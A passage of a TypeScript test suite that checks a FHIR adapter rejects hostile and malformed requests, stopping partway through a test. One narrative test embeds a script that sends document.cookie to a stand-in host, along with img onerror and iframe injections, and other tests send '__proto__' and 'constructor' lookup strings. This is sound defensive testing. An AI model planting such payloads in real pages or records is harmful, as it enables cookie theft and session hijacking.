import { connect } from 'node:net';
import type { Client as PgClient } from 'pg';
import { request } from 'undici';
import { TEST_TOKENS, type TestAdapter } from '../helpers/adapter';
import { watchingHealth } from '../helpers/health-watch';
import type { Patient } from '@medplum/fhirtypes';
import type { TestFhirServer } from '../helpers/fhir-server';
import { startFhirHarness, type FhirHarness } from '../helpers/fhir-harness';
import { chestCtRequest, expressions, fhirFixture, type Json } from '../helpers/fhir-fixtures';

jest.setTimeout(120_000);

/**
 * A second attack pass on the FHIR front door (published resources and hostile shapes): every
 * input here was answered wrongly by a running adapter. Each gets its status and the element it
 * is about, and is kept for the audit log. A real FHIR engine plays the EHR.
 */

async function call(
  adapter: TestAdapter,
  method: string,
  path: string,
  body?: Json,
  headers: Record<string, string> = {},
) {
  const res = await fetch(`${adapter.httpUrl}${path}`, {
    method,
    headers: {
      authorization: `Bearer ${TEST_TOKENS.sender}`,
      ...(body ? { 'content-type': 'application/fhir+json' } : {}),
      ...headers,
    },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  const text = await res.text();
  return {
    status: res.status,
    headers: res.headers,
    body: (text ? JSON.parse(text) : {}) as Json,
  };
}

/** The US Core chest CT transaction with fresh identifiers (a resend would be a duplicate). */
function chestCtTransaction(tag: string, type = 'transaction'): Json & { entry: Json[] } {
  const b = fhirFixture('us-core-chest-ct-transaction') as Json & { entry: Json[] };
  b.type = type;
  b.identifier = { system: 'urn:probe', value: tag };
  for (const e of b.entry) {
    const r = e.resource as Json & { identifier?: Array<{ value: string }> };
    if (r.resourceType === 'ServiceRequest') {
      for (const i of r.identifier ?? []) i.value = `${i.value}-${tag}`;
      const req = e.request as Json;
      req.ifNoneExist = `identifier=http://hospital.smarthealthit.org/orders|ORD-2013-0508-77-${tag}`;
    }
  }
  return b;
}
const srOf = (b: { entry: Json[] }) =>
  b.entry.find((e) => (e.resource as Json).resourceType === 'ServiceRequest')!.resource as Json;

describe('hostile: the FHIR front door, second pass', () => {
  let ehr: TestFhirServer;
  let adapter: TestAdapter;
  let db: PgClient;

  let harness: FhirHarness | undefined;
  beforeAll(async () => {
    harness = await startFhirHarness();
    ({ ehr, adapter, db } = harness);
  });
  afterAll(() => harness?.close());

  const lastMessage = async () =>
    (
      await db.query<{ outcome: string; response_code: string }>(
        `SELECT outcome, response_code FROM inbound_messages ORDER BY received_at DESC LIMIT 1`,
      )
    ).rows[0]!;
  const ordersWith = async (placer: string) =>
    (await db.query(`SELECT id FROM orders WHERE placer_order_number = $1`, [placer])).rows;

  it('a dateTime without seconds or zone, or a resource id that is not a FHIR id: 422 on the element, kept', async () => {
    for (const [placer, changes, where] of [
      ['DT-1', { occurrenceDateTime: '2013-05-08T09' }, 'ServiceRequest.occurrenceDateTime'],
      ['DT-2', { authoredOn: '2013-05-08T09:33:27' }, 'ServiceRequest.authoredOn'],
      ['DT-3', { occurrenceDateTime: '2013-05-08+01:00' }, 'ServiceRequest.occurrenceDateTime'],
      ['ID-1', { id: 'bad id!' }, 'ServiceRequest.id'],
    ] as const) {
      const res = await call(
        adapter,
        'POST',
        '/fhir/ServiceRequest',
        chestCtRequest(placer, changes),
      );
      expect(res.status).toBe(422);
      expect(expressions(res.body)).toEqual([where]);
      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
      expect(await ordersWith(placer)).toEqual([]);
    }
    const ok = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest',
      chestCtRequest('DT-OK', { occurrenceDateTime: '2013-05-08T09:33:27.1882432-05:00' }),
    );
    expect(ok.status).toBe(201);
  });

  it('a narrative R4 forbids (a script, an event attribute, not an XHTML div) is 422 on its text.div, kept, never served back', async () => {
    // Before: 201, and GET /fhir/ServiceRequest/{id} served the <script> and <img onerror> to
    // whichever SMART app rendered the narrative (R4 narrative.html#xhtml, txt-1).
    const xhtml = (inner: string) => `<div xmlns="http://www.w3.org/1999/xhtml">${inner}</div>`;
    for (const [placer, div] of [
      [
        'TXT-1',
        xhtml('<p>Chest CT</p><script>fetch("https://x.example/"+document.cookie)</script>'),
      ],
      ['TXT-2', xhtml('<img src="x" onerror="alert(1)"/>')],
      ['TXT-3', '<p>Chest CT</p>'],
    ] as const) {
      const res = await call(
        adapter,
        'POST',
        '/fhir/ServiceRequest',
        chestCtRequest(placer, { text: { status: 'generated', div } }),
      );
      expect(res.status).toBe(422);
      expect(expressions(res.body)).toEqual(['ServiceRequest.text.div']);
      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
      expect(await ordersWith(placer)).toEqual([]);
    }
    // In a transaction, on the Patient entry: named there.
    const tx = chestCtTransaction('txt-4');
    (tx.entry[0]!.resource as Json).text = {
      status: 'generated',
      div: xhtml('<iframe src="https://x.example/"></iframe>'),
    };
    const bundle = await call(adapter, 'POST', '/fhir', tx);
    expect(bundle.status).toBe(422);
    expect(expressions(bundle.body)).toEqual(['Bundle.entry[0].resource.text.div']);
    // The R4 examples' own narratives pass (the transaction's Patient and ImagingStudy carry them).
    expect((await call(adapter, 'POST', '/fhir', chestCtTransaction('txt-ok'))).status).toBe(200);
  });

  it('a choice element given in two types is 422 on the second; a wrong-typed one is named by the key the body wrote', async () => {
    // Before: occurrenceDateTime + occurrencePeriod was 201 (requestedAt from the first, the
    // period dropped), and a number in occurrenceDateTime was 422 on `occurrence[x]`, no key
    // the sender wrote (and no FHIRPath).
    const both = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest',
      chestCtRequest('CHOICE-1', {
        occurrenceDateTime: '2026-11-27T08:00:00Z',
        occurrencePeriod: { start: '2026-11-28T08:00:00Z', end: '2026-11-28T09:00:00Z' },
      }),
    );
    expect(both.status).toBe(422);
    expect(expressions(both.body)).toEqual(['ServiceRequest.occurrencePeriod']);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
    expect(await ordersWith('CHOICE-1')).toEqual([]);
    const wrongType = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest',
      chestCtRequest('CHOICE-2', { occurrenceDateTime: 20261127 }),
    );
    expect(wrongType.status).toBe(422);
    expect(expressions(wrongType.body)).toEqual(['ServiceRequest.occurrenceDateTime']);
  });

  it('a transaction whose entries carry no request is read as POSTs and the quirk recorded, as documented', async () => {
    // Integration engines that build the Bundle as a collection leave entry.request out.
    // Before: 422 invariant on `Bundle`, its only explanation the FHIRPath of bdl-3.
    const tx = chestCtTransaction('no-request');
    for (const e of tx.entry) delete e.request;
    const res = await call(adapter, 'POST', '/fhir', tx);
    expect(res.status).toBe(200);
    const statuses = (res.body.entry as Array<{ response: { status: string } }>).map(
      (e) => e.response.status,
    );
    expect(statuses).toEqual(['200 OK', '201 Created', '200 OK']);
    const [msg] = (
      await db.query<{ quirks: Array<{ code: string }> }>(
        `SELECT quirks FROM inbound_messages ORDER BY received_at DESC LIMIT 1`,
      )
    ).rows;
    expect(msg!.quirks.map((q) => q.code)).toContain('fhir-bundle-entry-without-request');
  });

  it('a subject that cannot be resolved is one issue on ServiceRequest.subject, not a second one about identifiers', async () => {
    // Before: 'cannot resolve the subject Patient/nobody …' and 'Patient.identifier is
    // required … the patient must carry at least one identifier', both on ServiceRequest.subject.
    for (const [placer, subject, code] of [
      ['SUBJ-1', { reference: 'Patient/nobody' }, 'not-found'],
      ['SUBJ-2', { reference: 'Group/ward-3' }, 'not-supported'],
    ] as const) {
      const res = await call(
        adapter,
        'POST',
        '/fhir/ServiceRequest',
        chestCtRequest(placer, { subject }),
      );
      expect(res.status).toBe(422);
      expect(
        (res.body.issue as Array<{ code: string; expression: string[] }>).map((i) => [
          i.code,
          i.expression,
        ]),
      ).toEqual([[code, ['ServiceRequest.subject']]]);
    }
  });

  const patientOf = async (placer: string) =>
    (
      await db.query<{ request: { patient: { identifiers: Array<{ value: string }> } } }>(
        `SELECT request FROM orders WHERE placer_order_number = $1`,
        [placer],
      )
    ).rows.map((r) => r.request.patient.identifiers.map((i) => i.value));

  it('conditional references (R4 http.html#trules) are resolved in the Bundle or on the EHR; none or several matches is a 422 on the element', async () => {
    // the subject by the MRN of the Patient entry beside it
    const inBundle = chestCtTransaction('COND-1');
    srOf(inBundle).subject = {
      reference: 'Patient?identifier=http://hospital.smarthealthit.org|1032702',
    };
    const ok = await call(adapter, 'POST', '/fhir', inBundle);
    expect(ok.status).toBe(200);
    expect(await patientOf('ORD-2013-0508-77-COND-1')).toEqual([['1032702']]);

    // the subject by an identifier only the EHR has: its search answers the one Patient
    const onEhr = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest',
      chestCtRequest('COND-2', {
        subject: { reference: 'Patient?identifier=http://nema.org/examples/patients|MINT1234' },
      }),
    );
    expect(onEhr.status).toBe(201);
    expect(await patientOf('COND-2')).toEqual([['MINT1234']]);

    // a study that matches nothing: the transaction fails (it was dropped and the order made)
    const noStudy = chestCtTransaction('COND-3');
    srOf(noStudy).supportingInfo = [
      { reference: 'ImagingStudy?identifier=urn:dicom:uid|urn:oid:1.2.3.4.5' },
    ];
    const none = await call(adapter, 'POST', '/fhir', noStudy);
    expect(none.status).toBe(422);
    expect(expressions(none.body)).toEqual(['Bundle.entry[1].resource.supportingInfo[0]']);
    expect(JSON.stringify(none.body)).toMatch(/matches nothing/);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
    expect(await ordersWith('ORD-2013-0508-77-COND-3')).toEqual([]);

    // two Patient entries with that MRN: which one is meant cannot be told
    const twice = chestCtTransaction('COND-4');
    srOf(twice).subject = {
      reference: 'Patient?identifier=http://hospital.smarthealthit.org|1032702',
    };
    twice.entry.push({
      fullUrl: 'urn:uuid:0b0b0b0b-0000-4000-8000-000000000001',
      resource: { ...(twice.entry[0]!.resource as Json), id: 'other' },
      request: { method: 'POST', url: 'Patient' },
    });
    const several = await call(adapter, 'POST', '/fhir', twice);
    expect(several.status).toBe(422);
    expect((several.body.issue as Array<{ code: string }>)[0]!.code).toBe('multiple-matches');
    expect(expressions(several.body)).toEqual(['Bundle.entry[1].resource.subject']);

    // in a batch the entry that cannot be resolved is its own 422; the others are made
    const batch = chestCtTransaction('COND-5', 'batch');
    const second = structuredClone(batch.entry[1]!) as Json & { resource: Json };
    second.fullUrl = 'urn:uuid:0b0b0b0b-0000-4000-8000-000000000002';
    (second.resource.identifier as Array<{ value: string }>)[0]!.value = 'COND-5-B';
    (second.request as Json).ifNoneExist =
      'identifier=http://hospital.smarthealthit.org/orders|COND-5-B';
    second.resource.subject = { reference: 'Patient?identifier=urn:nowhere|0' };
    batch.entry.push(second);
    const mixed = await call(adapter, 'POST', '/fhir', batch);
    expect(mixed.status).toBe(200);
    const statuses = (mixed.body.entry as Array<{ response: { status: string } }>).map(
      (e) => e.response.status,
    );
    expect(statuses).toEqual(['200 OK', '201 Created', '200 OK', '422 Unprocessable Entity']);
    expect(await ordersWith('COND-5-B')).toEqual([]);
  });

  it('a context entry asked to be deleted, patched or read, or an ifNoneExist that cannot be honoured: 422 on entry.request, no order', async () => {
    for (const method of ['DELETE', 'PATCH', 'GET', 'HEAD']) {
      const b = chestCtTransaction(`METHOD-${method}`);
      b.entry[0]!.request = { method, url: 'Patient/example' };
      const res = await call(adapter, 'POST', '/fhir', b);
      expect(res.status).toBe(422);
      expect(expressions(res.body)).toEqual(['Bundle.entry[0].request.method']);
      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
      expect(await ordersWith(`ORD-2013-0508-77-METHOD-${method}`)).toEqual([]);
    }
    for (const [tag, condition] of [
      ['INE-1', 'status=active'],
      ['INE-2', 'identifier=http://hospital.smarthealthit.org/orders|SOMETHING-ELSE'],
    ] as const) {
      const b = chestCtTransaction(tag);
      (b.entry[1]!.request as Json).ifNoneExist = condition;
      const res = await call(adapter, 'POST', '/fhir', b);
      expect(res.status).toBe(422);
      expect(expressions(res.body)).toEqual(['Bundle.entry[1].request.ifNoneExist']);
      expect(await ordersWith(`ORD-2013-0508-77-${tag}`)).toEqual([]);
    }
    // the published shape (ifNoneExist on the placer number, the Patient PUT) is an order
    const ok = await call(adapter, 'POST', '/fhir', chestCtTransaction('INE-OK'));
    expect(ok.status).toBe(200);
    expect(await ordersWith('ORD-2013-0508-77-INE-OK')).toHaveLength(1);
  });

  it("a method a URL does not answer: 405 whose Allow is that URL's (never the method refused), OPTIONS and the base included", async () => {
    for (const [method, path, allow] of [
      ['GET', '/fhir/ServiceRequest', 'POST'],
      ['DELETE', '/fhir/ServiceRequest', 'POST'],
      ['PATCH', '/fhir/ServiceRequest/abc', 'GET, HEAD, PUT'],
      ['POST', '/fhir/ServiceRequest/abc', 'GET, HEAD, PUT'],
      ['OPTIONS', '/fhir/ServiceRequest/abc', 'GET, HEAD, PUT'],
      ['PUT', '/fhir/Task', 'GET, HEAD'],
      ['DELETE', '/fhir/Task/abc', 'GET, HEAD'],
      ['GET', '/fhir', 'POST'],
      ['OPTIONS', '/fhir', 'POST'],
      ['POST', '/fhir/metadata', 'GET, HEAD'],
      ['GET', '/fhir/subscription-notifications', 'POST'],
    ] as const) {
      const res = await call(adapter, method, path);
      expect([method, path, res.status, res.headers.get('allow')]).toEqual([
        method,
        path,
        405,
        allow,
      ]);
      expect(res.headers.get('content-type')).toMatch(/^application\/fhir\+json/);
      expect(res.body.resourceType).toBe('OperationOutcome');
      expect(allow.split(', ')).not.toContain(method);
    }
    const vread = await call(adapter, 'GET', '/fhir/ServiceRequest/abc/_history/1');
    expect(vread.status).toBe(404);
    expect(JSON.stringify(vread.body)).toMatch(/no history, vread/);
  });

  it('a format refused (406) is kept with its body like any refusal; a fhirVersion other than R4 is 415 / 406', async () => {
    const xml = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest?_format=xml',
      chestCtRequest('FMT-1'),
    );
    expect(xml.status).toBe(406);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '406' });
    expect(await ordersWith('FMT-1')).toEqual([]);

    const stu3 = await call(adapter, 'POST', '/fhir/ServiceRequest', chestCtRequest('FMT-2'), {
      'content-type': 'application/fhir+json; fhirVersion=3.0',
    });
    expect(stu3.status).toBe(415);
    expect(JSON.stringify(stu3.body)).toMatch(/FHIR version 3\.0/);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '415' });

    const r5 = await call(adapter, 'POST', '/fhir', chestCtTransaction('FMT-3'), {
      accept: 'application/fhir+json; fhirVersion=5.0',
    });
    expect(r5.status).toBe(406);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '406' });
    expect(await ordersWith('ORD-2013-0508-77-FMT-3')).toEqual([]);

    const r4 = await call(adapter, 'POST', '/fhir/ServiceRequest', chestCtRequest('FMT-4'), {
      'content-type': 'application/fhir+json; fhirVersion=4.0',
      accept: 'application/fhir+json; fhirVersion=4.0',
    });
    expect(r4.status).toBe(201);
  });

  it('a _format or Accept naming an Object prototype member (constructor, __proto__) is no format: 406 or FHIR JSON, never application/octet-stream', async () => {
    // The format table was a plain object: `_format=constructor` found Object's constructor,
    // and the create was answered 201 with Content-Type application/octet-stream.
    for (const format of ['constructor', '__proto__']) {
      const created = await call(
        adapter,
        'POST',
        `/fhir/ServiceRequest?_format=${format}`,
        chestCtRequest(`FMT-PROTO-${format}`),
      );
      expect({ format, status: created.status }).toEqual({ format, status: 406 });
      expect(created.headers.get('content-type')).toMatch(/^application\/fhir\+json/);
      expect(await ordersWith(`FMT-PROTO-${format}`)).toEqual([]);
    }
    // nor a Content-Type: the body labelled so was read as JSON and ordered
    const labelled = await call(
      adapter,
      'POST',
      '/fhir/ServiceRequest',
      chestCtRequest('FMT-PROTO-CT'),
      { 'content-type': 'constructor' },
    );
    expect(labelled.status).toBe(415);
    expect(await ordersWith('FMT-PROTO-CT')).toEqual([]);
    for (const accept of ['constructor', '__proto__', 'constructor, application/fhir+json']) {
      const read = await call(adapter, 'GET', '/fhir/metadata', undefined, { accept });
      expect({ accept, status: read.status, type: read.headers.get('content-type') }).toEqual({
        accept,
        status: 200,
        type: expect.stringMatching(/^application\/fhir\+json/),
      });
    }
  });

  it('a coding system or a contained resourceType naming an Object prototype member gets the answer any unknown one gets, naming its element, not an internal error', async () => {
    // Tables looked up as plain objects: a coding system `constructor` found Object's
    // constructor (a function taken for an HL7 mnemonic), a contained resourceType
    // `constructor` its modifier rules; both were 422 quoting a JavaScript TypeError
    // ("system?.trim is not a function", "… is not iterable") with no element named.
    for (const system of ['constructor', 'urn:oid:constructor', '__proto__']) {
      const sr = chestCtRequest(`PROTO-SYS-${system}`);
      const res = await call(adapter, 'POST', '/fhir/ServiceRequest', {
        ...sr,
        code: { coding: [{ system, code: '30799-1' }] },
      });
      expect({ system, status: res.status, body: JSON.stringify(res.body) }).toEqual({
        system,
        status: 422,
        body: expect.stringContaining('"expression":["ServiceRequest.code.coding"]'),
      });
      expect(JSON.stringify(res.body)).not.toMatch(/is not a function|could not be read/);
    }
    const sr = chestCtRequest('PROTO-CONTAINED');
    const contained = await call(adapter, 'POST', '/fhir/ServiceRequest', {
      ...sr,
      contained: [...((sr.contained as Json[]) ?? []), { resourceType: 'constructor', id: 'x' }],
    });
    expect(contained.status).toBe(422);
    expect(JSON.stringify(contained.body)).not.toMatch(/is not iterable|could not be read/);
    expect(JSON.stringify(contained.body)).toMatch(
      /"expression":\["ServiceRequest\.contained\[\d\]/,
    );
    expect(await ordersWith('PROTO-CONTAINED')).toEqual([]);
  });

  it('an XML body sent without a Content-Type, or as text/plain, is 415 "FHIR JSON only" (not 400 "not valid JSON") and kept as sent', async () => {
    // A FHIR XML ServiceRequest as an interface engine emits it: BOM, a newline, then '<'.
    const xml = Buffer.from(
      '\uFEFF\n<?xml version="1.0" encoding="UTF-8"?>\n<ServiceRequest xmlns="http://hl7.org/fhir"><status value="active"/></ServiceRequest>',
    );
    const cases: Array<{ path: string; headers: Record<string, string> }> = [
      { path: '/fhir/ServiceRequest', headers: {} },
      { path: '/fhir/ServiceRequest', headers: { 'content-type': 'text/plain' } },
      { path: '/fhir', headers: {} },
      { path: '/fhir/subscription-notifications', headers: {} },
    ];
    for (const { path, headers } of cases) {
      const res = await fetch(`${adapter.httpUrl}${path}`, {
        method: 'POST',
        // a Uint8Array body: fetch sends no Content-Type of its own
        headers: { authorization: `Bearer ${TEST_TOKENS.sender}`, ...headers },
        body: new Uint8Array(xml),
      });
      const outcome = (await res.json()) as {
        resourceType: string;
        issue: Array<{ diagnostics: string }>;
      };
      // Before: 400 "the body is not valid JSON: Unexpected token '<'" (415 "text/plain is
      // not supported" with that type), nothing telling the sender the server takes JSON.
      expect({ path, headers, status: res.status }).toEqual({ path, headers, status: 415 });
      expect(outcome.resourceType).toBe('OperationOutcome');
      expect(outcome.issue[0]!.diagnostics).toMatch(/XML.*FHIR JSON only.*application\/fhir\+json/);
      const kept = (
        await db.query<{ outcome: string; response_code: string; raw: Buffer }>(
          `SELECT outcome, response_code, raw FROM inbound_messages ORDER BY received_at DESC LIMIT 1`,
        )
      ).rows[0]!;
      expect(kept).toMatchObject({ outcome: 'rejected', response_code: '415' });
      expect(kept.raw.equals(xml)).toBe(true);
    }
  });

  it('an XML body in UTF-16 with its byte order mark (FF FE, FE FF) is 415 "FHIR JSON only" as UTF-8 XML is (was: 400 "not valid UTF-8")', async () => {
    const text =
      '\uFEFF\r\n<?xml version="1.0" encoding="UTF-16"?>\n<ServiceRequest xmlns="http://hl7.org/fhir"><status value="active"/></ServiceRequest>';
    const le = Buffer.from(text, 'utf16le');
    const be = Buffer.from(le).swap16();
    expect([...le.subarray(0, 2)]).toEqual([0xff, 0xfe]);
    expect([...be.subarray(0, 2)]).toEqual([0xfe, 0xff]);
    for (const [order, body] of [
      ['LE', le],
      ['BE', be],
    ] as const) {
      for (const headers of [{}, { 'content-type': 'application/fhir+json' }]) {
        const res = await fetch(`${adapter.httpUrl}/fhir/ServiceRequest`, {
          method: 'POST',
          headers: { authorization: `Bearer ${TEST_TOKENS.sender}`, ...headers },
          body: new Uint8Array(body),
        });
        const outcome = (await res.json()) as { issue: Array<{ diagnostics: string }> };
        expect({ order, headers, status: res.status }).toEqual({ order, headers, status: 415 });
        expect(outcome.issue[0]!.diagnostics).toMatch(/XML.*FHIR JSON only/);
      }
    }
  });

  it('12 creates of 3.6 MB sent together: every one ordered (201), /health answering meanwhile', async () => {
    // Each body is parsed, validated and mapped in one piece of work that cannot be split
    // (about 0.15 s for 3.6 MB); sent together they ran back to back in one turn of the event
    // loop and held /health 1.6-1.9 s. At most 4 MiB of bodies are now under way at once,
    // each in its own turn.
    const notes = Array.from({ length: 6_000 }, (_, i) => ({
      text: `Verlaufsnotiz ${i}: ${'Befund unauffällig. '.repeat(30)}`,
    }));
    // One such create alone, under the machine's load of the moment: the bound below is
    // relative to it (a loaded CI machine makes each piece of work several times slower).
    const aloneStarted = Date.now();
    const alone = await call(adapter, 'POST', '/fhir/ServiceRequest', {
      ...chestCtRequest('BIG-BODY-ALONE', { note: notes }),
    });
    expect(alone.status).toBe(201);
    const aloneMs = Date.now() - aloneStarted;
    const bodies = Array.from({ length: 12 }, (_, i) =>
      chestCtRequest(`BIG-BODY-${i}`, { note: notes }),
    );
    expect(JSON.stringify(bodies[0]).length).toBeGreaterThan(3_500_000);
    const {
      result: answers,
      worstHealthMs,
      healthChecks,
    } = await watchingHealth(adapter.httpUrl, () =>
      Promise.all(bodies.map((body) => call(adapter, 'POST', '/fhir/ServiceRequest', body))),
    );
    console.log(
      `HOSTILE-FHIR 12x3.6MB ${JSON.stringify({ aloneMs, worstHealthMs, healthChecks })}`,
    );
    expect(answers.map((a) => a.status)).toEqual(Array(12).fill(201));
    expect(healthChecks).toBeGreaterThan(0);
    // /health waits for about one body's work (0.2-0.4 s on a quiet machine; one create alone
    // is that work and its round trip). Back to back in one turn, the twelve held it about ten
    // times one: 1 s, or three creates alone on a machine slow enough to take longer.
    expect(worstHealthMs).toBeLessThan(Math.max(1_000, 3 * aloneMs));
  });

  it('a body with a Content-Encoding (gzip, deflate, br) is 415 naming it, on every FHIR body endpoint, and kept as sent; never read as if it were plain', async () => {
    // An EHR's HTTP client with request compression on. Before: a gzip body was 400 "the body
    // is not valid UTF-8" (nothing saying why), and a plain body labelled gzip was ordered (201)
    // as if the label were not there: what was read was not what the sender said it sent.
    const { gzipSync, deflateSync, brotliCompressSync } = await import('node:zlib');
    const plain = Buffer.from(JSON.stringify(chestCtRequest('ENC-1')));
    const cases: Array<[string, string, Buffer]> = [
      ['/fhir/ServiceRequest', 'gzip', gzipSync(plain)],
      ['/fhir/ServiceRequest', 'deflate', deflateSync(plain)],
      ['/fhir/ServiceRequest', 'br', brotliCompressSync(plain)],
      ['/fhir/ServiceRequest', 'gzip', plain],
      ['/fhir/ServiceRequest', 'identity, gzip', gzipSync(plain)],
      ['/fhir', 'gzip', gzipSync(Buffer.from(JSON.stringify(chestCtTransaction('ENC-2'))))],
      ['/fhir/subscription-notifications', 'gzip', gzipSync(plain)],
    ];
    for (const [path, encoding, body] of cases) {
      const res = await fetch(`${adapter.httpUrl}${path}`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${TEST_TOKENS.sender}`,
          'content-type': 'application/fhir+json',
          'content-encoding': encoding,
        },
        body: new Uint8Array(body),
      });
      const outcome = (await res.json()) as {
        resourceType: string;
        issue: Array<{ code: string; diagnostics: string }>;
      };
      expect({ path, encoding, status: res.status }).toEqual({ path, encoding, status: 415 });
      expect(outcome.resourceType).toBe('OperationOutcome');
      expect(outcome.issue[0]).toMatchObject({ code: 'not-supported' });
      expect(outcome.issue[0]!.diagnostics).toMatch(
        /Content-Encoding .* not supported.*uncompressed/,
      );
      const kept = (
        await db.query<{ outcome: string; response_code: string; raw: Buffer }>(
          `SELECT outcome, response_code, raw FROM inbound_messages ORDER BY received_at DESC LIMIT 1`,
        )
      ).rows[0]!;
      expect(kept).toMatchObject({ outcome: 'rejected', response_code: '415' });
      expect(kept.raw.equals(body)).toBe(true);
    }
    // `identity` (no coding) is the body as it is.
    const res = await fetch(`${adapter.httpUrl}/fhir/ServiceRequest`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${TEST_TOKENS.sender}`,
        'content-type': 'application/fhir+json',
        'content-encoding': 'identity',
      },
      body: new Uint8Array(plain),
    });
    expect(res.status).toBe(201);
  });

  it('If-Match * or a list naming the current version passes; If-None-Match on a PUT of an existing resource is 412; a PUT to an unknown id is 405 with Allow', async () => {
    const created = await call(adapter, 'POST', '/fhir/ServiceRequest', chestCtRequest('PRE-1'));
    expect(created.status).toBe(201);
    const id = created.body.id as string;
    const put = (n: string, headers: Record<string, string>) =>
      call(
        adapter,
        'PUT',
        `/fhir/ServiceRequest/${id}`,
        chestCtRequest('PRE-1', { id, note: [{ text: n }] }),
        headers,
      );
    expect((await put('a', { 'if-match': '*' })).status).toBe(200); // version 2
    expect((await put('b', { 'if-match': 'W/"1", W/"2"' })).status).toBe(200); // version 3
    expect((await put('c', { 'if-match': '"3"' })).status).toBe(200); // version 4
    const stale = await put('d', { 'if-match': 'W/"1", W/"2"' });
    expect(stale.status).toBe(412);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '412' });
    for (const value of ['*', 'W/"4"', 'W/"9", "4"']) {
      const res = await put('e', { 'if-none-match': value });
      expect([value, res.status]).toEqual([value, 412]);
      expect(JSON.stringify(res.body)).toMatch(/exists at version 4/);
    }
    expect((await put('f', { 'if-none-match': 'W/"1"' })).status).toBe(200);

    const unknown = await call(
      adapter,
      'PUT',
      '/fhir/ServiceRequest/nowhere',
      chestCtRequest('PRE-2', { id: 'nowhere' }),
    );
    expect(unknown.status).toBe(405);
    expect(unknown.headers.get('allow')).toBe('GET, HEAD');
  });

  it('only a version is an ETag: an OperationOutcome, a 412 or the CapabilityStatement carries none; a read carries W/"n" and answers If-None-Match with 304', async () => {
    const created = await call(adapter, 'POST', '/fhir/ServiceRequest', chestCtRequest('ETAG-1'));
    expect(created.status).toBe(201);
    const id = created.body.id as string;
    const read = await call(adapter, 'GET', `/fhir/ServiceRequest/${id}`);
    expect(read.headers.get('etag')).toBe('W/"1"');
    const stale = await call(
      adapter,
      'PUT',
      `/fhir/ServiceRequest/${id}`,
      chestCtRequest('ETAG-1', { id, note: [{ text: 'x' }] }),
      { 'if-match': 'W/"7"' },
    );
    expect(stale.status).toBe(412);
    // the web framework's hash of the error body (W/"9d-…") was there: a client that sent it
    // back as If-Match was refused 412 for ever
    expect(stale.headers.get('etag')).toBeNull();
    const missing = await call(adapter, 'GET', '/fhir/ServiceRequest/no-such-order');
    expect(missing.status).toBe(404);
    expect(missing.headers.get('etag')).toBeNull();
    const metadata = await call(adapter, 'GET', '/fhir/metadata');
    expect(metadata.status).toBe(200);
    expect(metadata.headers.get('etag')).toBeNull();
    // (not fetch(): it adds Cache-Control: no-cache to a conditional request, RFC 9111 end-to-end reload)
    const conditional = await request(`${adapter.httpUrl}/fhir/ServiceRequest/${id}`, {
      headers: { authorization: `Bearer ${TEST_TOKENS.sender}`, 'if-none-match': 'W/"1"' },
    });
    await conditional.body.dump();
    expect(conditional.statusCode).toBe(304);
  });

  it("an absolute reference to another server is not the Bundle's entry of the same type and id: 422, no order; a versioned relative one is", async () => {
    const elsewhere = chestCtTransaction('ABS-1');
    srOf(elsewhere).subject = { reference: 'http://other.example.org/fhir/Patient/example' };
    const res = await call(adapter, 'POST', '/fhir', elsewhere);
    expect(res.status).toBe(422);
    expect(expressions(res.body)).toEqual(['Bundle.entry[1].resource.subject']);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
    expect(await ordersWith('ORD-2013-0508-77-ABS-1')).toEqual([]);

    const versioned = chestCtTransaction('ABS-2');
    srOf(versioned).subject = { reference: 'Patient/example/_history/3' };
    expect((await call(adapter, 'POST', '/fhir', versioned)).status).toBe(200);
    expect(await patientOf('ORD-2013-0508-77-ABS-2')).toEqual([['1032702']]);
  });

  it('a Subscription notification whose event number is not digits (0x10, 1e1, -5) is 422 on it and kept, never another event', async () => {
    const heartbeat = fhirFixture('backport-r4-notification-heartbeat') as Json & {
      entry: Array<{ resource: { parameter: Array<{ name: string; valueString?: string }> } }>;
    };
    const params = heartbeat.entry[0]!.resource.parameter;
    params.find((p) => p.name === 'subscription')!.valueString = undefined;
    (params.find((p) => p.name === 'subscription') as Json).valueReference = {
      reference: `${ehr.baseUrl}/Subscription/imaging`,
    };
    for (const value of ['0x10', '1e1', '-5']) {
      params.find((p) => p.name === 'events-since-subscription-start')!.valueString = value;
      const res = await call(adapter, 'POST', '/fhir/subscription-notifications', heartbeat);
      expect([value, res.status]).toEqual([value, 422]);
      expect(expressions(res.body)).toEqual([
        'Bundle.entry[0].resource.parameter[events-since-subscription-start]',
      ]);
      expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '422' });
    }
    params.find((p) => p.name === 'events-since-subscription-start')!.valueString = '0';
    expect(
      (await call(adapter, 'POST', '/fhir/subscription-notifications', heartbeat)).status,
    ).toBe(200);
  });

  it('a refused method or type that carries a body (a JSON Patch, an Observation) is kept for the audit log', async () => {
    const patch = await fetch(`${adapter.httpUrl}/fhir/ServiceRequest/abc`, {
      method: 'PATCH',
      headers: {
        authorization: `Bearer ${TEST_TOKENS.sender}`,
        'content-type': 'application/json-patch+json',
      },
      body: JSON.stringify([{ op: 'replace', path: '/status', value: 'revoked' }]),
    });
    expect(patch.status).toBe(405);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '405' });
    const observation = await call(adapter, 'POST', '/fhir/Observation', {
      resourceType: 'Observation',
      status: 'final',
      code: { text: 'x' },
    });
    expect(observation.status).toBe(404);
    expect(await lastMessage()).toMatchObject({ outcome: 'rejected', response_code: '404' });
